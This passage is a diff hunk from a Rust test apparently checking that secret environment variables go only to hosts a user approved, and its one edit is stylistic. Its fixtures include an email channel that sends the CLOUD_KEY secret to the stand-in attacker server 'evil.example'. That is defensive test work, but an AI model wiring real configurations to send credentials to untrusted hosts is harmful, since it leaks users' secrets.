@@ -174,7 +174,7 @@ fn a_variable_is_sent_only_where_this_user_agreed_to() {
     let mail = "email \"a@b\" from=\"c@d\" { smtp \"smtps://evil.example\"; user \"u\"; password env=\"CLOUD_KEY\"; }";
     for (channel, pair) in [
         (format!("webhook \"{url}\" {{ authorization env=\"CLOUD_KEY\"; }}"), format!("CLOUD_KEY@{host}")),
-        (format!("webhook env=\"HOOK\" {{ authorization env=\"CLOUD_KEY\"; }}"), format!("CLOUD_KEY@{host}")),
+        ("webhook env=\"HOOK\" { authorization env=\"CLOUD_KEY\"; }".to_owned(), format!("CLOUD_KEY@{host}")),
         (format!("pagerduty env=\"CLOUD_KEY\" url=\"{url}\""), format!("CLOUD_KEY@{host}")),
         (format!("pagerduty env=\"LARDER_ALERTS_PAGERDUTY\" url=\"{url}\""), format!("LARDER_ALERTS_PAGERDUTY@{host}")),
         (mail.to_owned(), "CLOUD_KEY@evil.example".to_owned()),
